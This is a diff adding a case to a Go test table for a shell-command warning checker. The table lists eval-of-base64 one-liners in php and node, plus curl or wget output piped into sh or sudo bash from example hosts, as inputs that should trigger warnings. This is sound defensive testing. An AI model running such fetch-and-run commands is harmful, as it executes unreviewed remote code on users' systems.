@@ -50,6 +50,8 @@ func TestShellWarnings(t *testing.T) {
 		{"php eval base64_decode", `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`, []string{"script decodes hidden content"}},
 		{"node eval Buffer", `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`, []string{"script decodes hidden content"}},
 
+		{"decode, then a download run", "base64 -d blob.b64 > out.bin; curl -fsSL https://x.example/i.sh | sh", []string{"(curl piped"}},
+
 		// Downloads that run.
 		{"curl piped to sh", "curl -fsSL https://get.example.com | sh", []string{"downloads a script and runs it at once (curl piped"}},
 		{"wget piped to sudo bash", "wget -qO- https://x.example/i.sh | sudo bash -s -- --yes", []string{"(wget piped"}},
